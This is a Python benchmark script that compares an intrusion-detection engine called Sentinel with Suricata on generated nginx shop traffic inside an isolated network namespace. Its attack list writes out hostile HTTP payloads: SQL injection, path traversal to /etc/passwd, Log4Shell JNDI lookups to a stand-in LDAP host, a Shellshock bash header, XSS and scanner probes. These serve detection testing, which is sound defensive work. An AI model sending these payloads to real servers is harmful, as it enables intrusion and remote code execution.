"""make bench-network: Sentinel beside the installed Suricata, same captures and rules, one worker each, alerts only.

    make bench-network                                             our own rules, HTTP shop traffic
    make bench-network ARGS="--rules FILE --pcaps FOLDER"          another rule set, and the mix of a folder's captures
    make bench-network ARGS="--http PCAP --rounds 3 --profile"     an HTTP capture made before; Sentinel's profile

Two captures are built here: HTTP shop traffic (nginx and wrk over a veth pair: keep-alive, JSON bodies, customers from
outside) with a known set of attacks in the middle, and with --pcaps all captures of a folder one after the other, the
whole so many times as --rounds says, two hours apart. Loading is subtracted on both sides by running an empty capture
first. Needs root, nginx, wrk, tcpdump, suricata. Prints packets/s of CPU time and of wall time, the ratio, and whether
both raised the same alerts for the same flows; ends with 1 when they did not, or when an attack was missed by both.
"""

import argparse
import cProfile
import http.client
import json
import logging
import os
import pstats
import re
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from sentinel import shipped
from sentinel.capture.pcap import read
from sentinel.pipeline import replay_network

GLOBAL_HEADER = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262_144, 1)
SPACE = "sentinel-bench-net"
NGINX = """user root; worker_processes 1; daemon off; pid {d}/pid; error_log {d}/error;
events {{ worker_connections 1024; }}
http {{ access_log off; default_type application/json; keepalive_requests 1000000; root {d}/www;
  client_body_temp_path {d}/1; proxy_temp_path {d}/2; fastcgi_temp_path {d}/3; uwsgi_temp_path {d}/4; scgi_temp_path {d}/5;
  server {{ listen 10.77.0.2:80; }} }}"""
WRK = """local n = 0
request = function()
  n = n + 1
  return wrk.format("GET", "/p" .. (n * 7919) % 200 .. ".json?session=" .. n * 31337 % 99991 .. "&page=" .. n % 40, {
    ["Host"] = "shop.example", ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ["Accept"] = "application/json", ["Referer"] = "https://shop.example/list?page=" .. n % 40, ["Cookie"] = "sid=abc" .. n % 977})
end"""


LOADS = 2  # how often loading is measured; the least counts
CUSTOMER = "198.51.100.7"  # outside of HOME_NET
# (path, headers): what scanners and attackers send, each from a connection of its own
ATTACKS = (
    ("/index.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users", {}),
    ("/p1.json?file=../../../../etc/passwd", {}),
    ("/p1.json", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("/p1.json", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"}),
    ("/p1.json", {"User-Agent": "${jndi:ldap://198.51.100.9:1389/a}"}),
    ("/p1.json?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D", {}),
    ("/.env", {}),
    ("/.git/config", {}),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {}),
    ("/cgi-bin/test.cgi", {"User-Agent": "() { :;}; /bin/bash -c 'id'"}),
    ("/p1.json?q=<script>alert(1)</script>", {}),
    ("/id.json", {}),  # answers with what a shell on the server would say
)


def attack():
    for path, headers in ATTACKS:
        connection = http.client.HTTPConnection("10.77.0.2", 80, timeout=5, source_address=(CUSTOMER, 0))
        connection.putrequest("GET", "/", skip_accept_encoding=True, skip_host=True)
        connection._buffer[0] = f"GET {path} HTTP/1.1".encode()
        for name, value in ({"Host": "shop.example", "Accept": "*/*"} | headers).items():
            connection.putheader(name, value)
        connection.endheaders()
        connection.getresponse().read()
        connection.close()


def run(*argv, **options):
    return subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **options)


def shop_capture(folder, seconds):
    www = folder / "www"
    www.mkdir()
    for n in range(200):
        text = " ".join(
            (["soft", "wool", "cotton", "blue", "green", "large", "small", "winter", "jacket", "shoe"] * 90)[
                : 20 + n * 4
            ]
        )
        (www / f"p{n}.json").write_text(
            json.dumps({"id": n, "name": f"Product {n}", "price": n + 0.5, "text": text})
        )
    (www / "id.json").write_text("uid=0(root) gid=0(root) groups=0(root)\n")
    (folder / "nginx.conf").write_text(NGINX.format(d=folder))
    (folder / "shop.lua").write_text(WRK)
    subprocess.run(["ip", "netns", "del", SPACE], check=False, stderr=subprocess.DEVNULL)
    run("ip", "netns", "add", SPACE)
    try:
        run("ip", "link", "add", "snbench0", "type", "veth", "peer", "name", "snbench1", "netns", SPACE)
        run("ip", "addr", "add", "10.77.0.1/24", "dev", "snbench0")
        run("ip", "addr", "add", f"{CUSTOMER}/32", "dev", "snbench0")
        run("ip", "link", "set", "snbench0", "up")
        run("ip", "route", "replace", "10.77.0.0/24", "dev", "snbench0", "src", CUSTOMER)
        run("ip", "-n", SPACE, "addr", "add", "10.77.0.2/24", "dev", "snbench1")
        run("ip", "-n", SPACE, "link", "set", "snbench1", "up")
        run("ip", "-n", SPACE, "route", "add", "default", "via", "10.77.0.1")
        server = ["ip", "netns", "exec", SPACE, "nginx", "-c", str(folder / "nginx.conf"), "-p", str(folder)]
        capture = folder / "http.pcap"
        sniffer = [
            "tcpdump",
            "-i",
            "snbench0",
            "-w",
            str(capture),
            "-s",
            "0",
            "-B",
            "200000",
            "tcp",
            "port",
            "80",
        ]
        with subprocess.Popen(server) as nginx:
            time.sleep(0.7)
            with subprocess.Popen(sniffer, stderr=subprocess.DEVNULL) as tcpdump:
                time.sleep(0.7)
                attacks = threading.Timer(seconds / 2, attack)
                attacks.start()
                run("wrk", "-t1", "-c40", f"-d{seconds}", "-s", str(folder / "shop.lua"), "http://10.77.0.2/")
                attacks.join()
                time.sleep(1)
                tcpdump.terminate()
            nginx.terminate()
    finally:
        run("ip", "netns", "del", SPACE)
    return capture


def mixed_capture(folder, source, rounds=1):
    """All Ethernet captures one after the other, times moved so that they never go back."""
    records, now = [], 1_700_000_000_000_000_000
    for capture in sorted(source.rglob("*.pcap")):
        begin, last = None, 0
        for batch in read(capture):
            if batch.link_type != 1:
                break
            for at, row in zip(batch.times.tolist(), batch.rows(), strict=True):
                begin = at if begin is None else begin
                last = max(last, min(at - begin, 60 * 10**9))
                records.append((now + last, row))
        now += last + 10**9
    path = folder / "mix.pcap"
    length = records[-1][0] - records[0][0] + 7200 * 10**9
    with path.open("wb") as out:
        out.write(GLOBAL_HEADER)
        for turn in range(rounds):
            for at, row in records:
                moment = at + turn * length
                out.write(
                    struct.pack("<IIII", moment // 10**9, moment % 10**9 // 1000, len(row), len(row)) + row
                )
    return path


def pair(eve):
    ends = [(eve.get(f"{side}_ip", ""), eve.get(f"{side}_port", 0)) for side in ("src", "dest")]
    return eve["alert"]["signature_id"], tuple(sorted(map(str, ends)))


def suricata(capture, rules, folder):
    """Seconds of CPU and of wall time, alerts, and how many packets it says it read."""
    out = folder / f"suricata-{capture.stem}"
    out.mkdir(exist_ok=True)
    argv = [
        "suricata", "-c", "/etc/suricata/suricata.yaml", "--runmode", "single", "-k", "none", "-S", str(rules),
        "--set", "unix-command.enabled=no", "--set", "outputs.0.fast.enabled=no", "-l", str(out), "-r", str(capture),
        "--set", f"outputs.1.eve-log.filename={out}/eve.json", "--set", "outputs.1.eve-log.types.0.alert.tagged-packets=no",
    ]  # fmt: skip
    started, clock = os.times(), time.monotonic()
    done = subprocess.run(argv, check=True, capture_output=True, text=True)
    ended, wall = os.times(), time.monotonic() - clock
    seconds = ended.children_user + ended.children_system - started.children_user - started.children_system
    events = map(json.loads, (out / "eve.json").read_text().splitlines())
    read_packets = int(re.search(r"read 1 file, (\d+) packets", done.stdout + done.stderr)[1])
    return seconds, wall, [event for event in events if event["event_type"] == "alert"], read_packets


def sentinel(capture, rules):
    """Seconds of CPU and of wall time, alerts, and how many bytes of packets went through."""
    started, clock, sizes = time.process_time(), time.monotonic(), []
    alerts = [alert.to_eve() for alert in replay_network(capture, [rules], progress=sizes.append)]
    return time.process_time() - started, time.monotonic() - clock, alerts, sum(sizes)


def compare(capture, empty, rules, folder):
    """True when both raised the same alerts about the same flows."""
    sizes = [(len(batch), len(batch.data)) for batch in read(capture)]
    packets, volume = sum(n for n, _ in sizes), sum(n for _, n in sizes)
    size = volume / 1e6
    print(f"\n{capture.stem}: {packets} packets, {size:.1f} MB")
    results, speeds = {}, {}
    for name, measure, everything in (
        ("suricata", lambda path: suricata(path, rules, folder), packets),
        ("sentinel", lambda path: sentinel(path, rules), volume),
    ):
        idle, idle_wall = map(min, zip(*(measure(empty)[:2] for _ in range(LOADS)), strict=True))
        seconds, wall, alerts, handled = measure(capture)
        if handled != everything:
            sys.exit(f"{name} handled {handled} of {everything}")
        busy, waited = max(seconds - idle, 1e-3), max(wall - idle_wall, 1e-3)
        results[name], speeds[name] = {pair(each) for each in alerts}, packets / busy
        print(
            f"  {name:<9} load {idle:6.2f} s  run {busy:7.2f} s of CPU time, {waited:7.2f} s wall  all packets  "
            f"{packets / busy:10.0f} packets/s  {size / busy:8.1f} MB/s  ({packets / waited:.0f} packets/s wall)  {len(alerts)} alerts"
        )
    print(f"  ratio sentinel/suricata: {speeds['sentinel'] / speeds['suricata']:.2f}")
    missing, extra = results["suricata"] - results["sentinel"], results["sentinel"] - results["suricata"]
    same = results["suricata"] & results["sentinel"]
    print(
        f"  (sid, flow) pairs: {len(same)} same, of {len({sid for sid, _ in same})} rules; {len(missing)} missing, {len(extra)} extra"
    )
    for sid, ends in sorted(missing)[:10]:
        print(f"    missing {sid} {ends}")
    for sid, ends in sorted(extra)[:10]:
        print(f"    extra   {sid} {ends}")
    return bool(same) and not missing and not extra


def main():
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument(
        "--rules", type=Path, default=shipped.folder("rules") / "network", help="file or folder"
    )
    parser.add_argument("--pcaps", type=Path, help="folder of captures: measure the mix of all of them too")
    parser.add_argument("--rounds", type=int, default=10, help="how often the mix is repeated (10)")
    parser.add_argument("--http", type=Path, help="an HTTP capture made before, instead of building one")
    parser.add_argument("--seconds", type=int, default=3, help="of shop traffic (3)")
    parser.add_argument("--profile", action="store_true", help="where Sentinel's time goes")
    given = parser.parse_args()
    logging.disable(logging.CRITICAL)
    with tempfile.TemporaryDirectory(prefix="sentinel-bench-") as name:
        folder = Path(name)
        folder.chmod(0o755)
        os.environ["CACHE_DIRECTORY"] = str(folder / "cache")
        empty = folder / "empty.pcap"
        empty.write_bytes(
            GLOBAL_HEADER + struct.pack("<IIII", 1, 0, 60, 60) + bytes(60)
        )  # one frame of nothing
        rules = folder / "all.rules"
        files = [given.rules] if given.rules.is_file() else sorted(given.rules.rglob("*.rules"))
        rules.write_bytes(b"\n".join(file.read_bytes() for file in files))
        started = time.process_time()
        sentinel(empty, rules)
        print(f"sentinel cold load {time.process_time() - started:.2f} s")
        captures = [given.http or shop_capture(folder, given.seconds)]
        captures += [mixed_capture(folder, given.pcaps, given.rounds)] if given.pcaps else []
        same = []
        for capture in captures:
            same.append(compare(capture, empty, rules, folder))
            if given.profile:
                profiler = cProfile.Profile()
                profiler.runcall(sentinel, capture, rules)
                pstats.Stats(profiler).sort_stats("tottime").print_stats(25)
    sys.exit(0 if all(same) else 1)


if __name__ == "__main__":
    main()
